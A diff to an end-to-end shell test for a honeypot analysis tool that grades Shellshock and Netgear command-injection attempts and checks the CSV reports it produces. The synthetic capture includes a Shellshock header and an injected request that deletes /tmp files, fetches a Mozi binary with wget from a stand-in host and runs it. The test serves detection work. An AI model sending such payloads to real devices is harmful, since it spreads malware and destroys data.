@@ -7,6 +7,8 @@
 # Expected tables were worked out by hand from the capture script below:
 #   A 203.0.113.5 (AS 64500, JP), B 198.18.0.7 (AS 64501, CN),
 #   C 100.64.0.1 (in no database); sensor 192.0.2.10; days in Japan time.
+# A sends Shellshock graded red, B Shellshock graded yellow and a Netgear
+# setup.cgi command injection (rce, red).
 source "$HS_SOURCE_DIR/tests/e2e/lib.sh"
 hs_setup
 
@@ -50,6 +52,9 @@ close
 tcp 198.18.0.7:40003 192.0.2.10:80
 c "GET / HTTP/1.0\r\nUser-Agent: () { :;}; /bin/ping -c1 10.246.50.2\r\n\r\n" @yellow
 close
+tcp 198.18.0.7:40004 192.0.2.10:80
+c "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.9/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n" @rce
+close
 udp 198.18.0.7:5000 192.0.2.10:53 "q"
 icmp 100.64.0.1 192.0.2.10
 EOF2
@@ -70,6 +75,7 @@ hs_tshark -r "$HS_TMP/rep.pcap" "${DBOPTS[@]}" -T ek "${FIELDS[@]}" >"$HS_TMP/e.
 hs_tshark -r "$HS_TMP/rep.pcap" "${DBOPTS[@]}" -T ek >"$HS_TMP/full.ek" 2>"$HS_TMP/full.err" ||
     { echo "FATAL: tshark -T ek failed" >&2; cat "$HS_TMP/full.err" >&2; exit 1; }
 hs_eq "the plugin graded the two requests in the ek" "$(grep -c shellshock_grade "$HS_TMP/e.ek")" 2
+hs_eq "and the command injection" "$(grep -c '"rce_grade":\["3"\]' "$HS_TMP/e.ek")" 1
 
 S=(--tz Asia/Tokyo --sensor-by dst --sensor honeypot=192.0.2.10)
 rep() { "$BIN" "${S[@]}" -f csv "$@" 2>"$HS_TMP/rep.err" | tr -d "\r"; }
@@ -82,35 +88,45 @@ for layout in e full; do
     hs_eq "$layout: timeline total = frames towards the sensor ($towards of $total)" \
         "$out" "total,$towards,2,0,1,1"
     hs_eq "$layout: country" "$(rep -r country "$HS_TMP/$layout.ek" | cut -d, -f1-8)" \
-"country,name,attempts,share,green,yellow,red,attacking_sources
-JP,Japan,1,50.0,0,0,1,1
+"country,name,ss_attempts,share,ss_green,ss_yellow,ss_red,attacking_sources
 CN,China,1,50.0,0,1,0,1
+JP,Japan,1,50.0,0,0,1,1
 unknown,unknown,0,0.0,0,0,0,0
 total,,2,100.0,0,1,1,2"
     hs_eq "$layout: grades" "$(rep -r grades "$HS_TMP/$layout.ek")" \
-"asn,as_org,bucket,green,yellow,red,attempts
+"asn,as_org,bucket,ss_green,ss_yellow,ss_red,ss_attempts
 64500,Example Net A,2024-03-02,0,0,1,1
 64501,Example B,2024-03-02,0,1,0,1
 total,,,0,1,1,2"
-    # A: SYNs to 23 (three) and the handshake SYN to 80; B has no attempt to 23.
+    # Ties in attempts go to the busier (B: 5 frames); A: SYNs to 23 (three)
+    # and the handshake SYN to 80; B has no attempt to 23.
     hs_eq "$layout: multiport" "$(rep -r multiport "$HS_TMP/$layout.ek")" \
 "rank,source,country,asn,as_org,attempts,attempts:tcp/23,attempts:other,other_ports,top_other
 1,203.0.113.5,JP,64500,Example Net A,4,3,1,1,tcp/80:1"
     hs_eq "$layout: as-time rows" "$(rep "$HS_TMP/$layout.ek" | cut -d, -f1-3,5-9 | sed -n 1,4p)" \
-"bucket,asn,as_org,sources,attempts,green,yellow,red
+"bucket,asn,as_org,sources,ss_attempts,ss_green,ss_yellow,ss_red
 2024-03-01,64500,Example Net A,1,0,0,0,0
-2024-03-02,64500,Example Net A,1,1,0,0,1
-2024-03-02,64501,Example B,1,1,0,1,0"
+2024-03-02,64501,Example B,1,1,0,1,0
+2024-03-02,64500,Example Net A,1,1,0,0,1"
     hs_eq "$layout: as-time: A's first day is one SYN" \
         "$(rep "$HS_TMP/$layout.ek" | sed -n 2p | cut -d, -f4,10)" "1,tcp/23:1"
     # p0f (the plugin's built-in signatures) labels the handshake SYNs to 80.
     hs_eq "$layout: os" "$(rep -r os "$HS_TMP/$layout.ek" | cut -d, -f1-5)" \
 "os,class,syns,share,sources
-(no match),unknown,3,60.0,1
-Linux 2.2.x-3.x (barebone),unix,2,40.0,2
-total,,5,100.0,2"
+Linux 2.2.x-3.x (barebone),unix,3,50.0,2
+(no match),unknown,3,50.0,1
+total,,6,100.0,2"
+    hs_eq "$layout: grades of the rce family" "$(rep -r grades --family rce "$HS_TMP/$layout.ek")" \
+"asn,as_org,bucket,rce_green,rce_yellow,rce_red,rce_attempts
+64501,Example B,2024-03-02,0,0,1,1
+total,,,0,0,1,1"
+    hs_eq "$layout: exploits" "$(rep -r exploits "$HS_TMP/$layout.ek")" \
+"family,exploit,attempts,green,yellow,red,sources,first_seen,last_seen
+shellshock,CVE-2014-6271,2,0,1,1,2,2024-03-02,2024-03-02
+rce,netgear-setup.cgi,1,0,0,1,1,2024-03-02,2024-03-02
+total,,3,0,1,2,2,2024-03-02,2024-03-02"
 done
-for r in as-time country ports timeline grades as-ports multiport os; do
+for r in as-time country ports timeline grades as-ports multiport os exploits; do
     rep -r "$r" "$HS_TMP/e.ek" >"$HS_TMP/a.csv"
     rep -r "$r" "$HS_TMP/full.ek" >"$HS_TMP/b.csv"
     hs_eq "$r: full layout = -e layout of the --fields fields" "$(cmp -s "$HS_TMP/a.csv" "$HS_TMP/b.csv" && echo same)" same
@@ -119,7 +135,7 @@ done
 # Straight from tshark's stdout, as the README shows it.
 piped=$(hs_tshark -r "$HS_TMP/rep.pcap" "${DBOPTS[@]}" -T ek "${FIELDS[@]}" 2>/dev/null |
     "$BIN" "${S[@]}" -f csv -r country | sed -n 2p | cut -d, -f1-3)
-hs_eq "tshark | honeyshark-report" "$piped" "JP,Japan,1"
+hs_eq "tshark | honeyshark-report" "$piped" "CN,China,1"
 
 # honeyshark-batch: the capture cut into chunks of 7 frames, 2 jobs, merged.
 cat >"$HS_TMP/tshark-wrap" <<WRAP
@@ -138,11 +154,15 @@ batch() {
 for via in tap ek; do
     flag=()
     [ "$via" = ek ] && flag=(--ek)
-    for r in as-time country timeline grades multiport; do
-        batch "${flag[@]}" "$HS_TMP/rep.pcap" -- -r "$r" -f csv >"$HS_TMP/batch.raw" 2>"$HS_TMP/batch.err"
+    # (the tap reads rce.* and shellshock.cve from the tree, the ek reader from JSON)
+    for r in as-time country timeline grades multiport exploits "grades --family rce" \
+        "country --family rce"; do
+        # shellcheck disable=SC2086 # "REPORT --family F": split on purpose
+        batch "${flag[@]}" "$HS_TMP/rep.pcap" -- -r $r -f csv >"$HS_TMP/batch.raw" 2>"$HS_TMP/batch.err"
         rc=$?
         tr -d '\r' <"$HS_TMP/batch.raw" >"$HS_TMP/batch.csv"
-        rep -r "$r" "$HS_TMP/e.ek" >"$HS_TMP/direct.csv"
+        # shellcheck disable=SC2086
+        rep -r $r "$HS_TMP/e.ek" >"$HS_TMP/direct.csv"
         [ $rc = 0 ] || cat "$HS_TMP/batch.err"
         hs_eq "batch via $via ($r, chunks of 7 frames) = one run (exit $rc)" \
             "$(cmp -s "$HS_TMP/batch.csv" "$HS_TMP/direct.csv" && echo same)" same
